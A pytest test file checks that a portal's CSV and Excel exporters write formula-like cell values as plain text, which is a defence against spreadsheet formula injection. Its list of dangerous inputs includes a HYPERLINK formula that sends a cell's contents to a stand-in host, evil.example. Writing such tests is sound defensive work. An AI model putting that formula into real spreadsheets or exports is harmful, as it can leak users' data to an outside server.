"""Exports never carry a live formula: text that a spreadsheet would evaluate is written as text,
in CSV and in every workbook (the one writer of the portal)."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from jilin_grid.exports import write_csv, write_workbook, write_xlsx

LINK = '=HYPERLINK("http://evil.example/?d="&A2,"详情")'
DANGEROUS = [LINK, "+86 199 0000 0001", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def test_csv_cells_that_begin_like_a_formula_are_written_as_text():
    content = write_csv(["姓名", "备注"], [[value, "普通文字"] for value in DANGEROUS] + [[-5, 3.5]])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:-1]] == [f"'{value}" for value in DANGEROUS]
    assert rows[-1] == ["-5", "3.5"]  # numbers stay numbers
    assert rows[1][1] == "普通文字"


@pytest.mark.parametrize(
    "write", [lambda rows: write_xlsx(["姓名"], rows), lambda rows: write_workbook([("表", ["姓名"], rows)])]
)
def test_workbook_cells_that_begin_like_a_formula_are_strings_not_formulas(write):
    content = write([[value] for value in DANGEROUS] + [[42]])
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [sheet.cell(row=row, column=1) for row in range(2, len(DANGEROUS) + 3)]
    # (XML reads a carriage return back as a line feed.)
    assert [cell.value for cell in cells[:-1]] == [value.replace("\r", "\n") for value in DANGEROUS]
    assert all(cell.data_type == "s" for cell in cells[:-1])
    assert cells[-1].value == 42 and cells[-1].data_type == "n"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere in the sheet
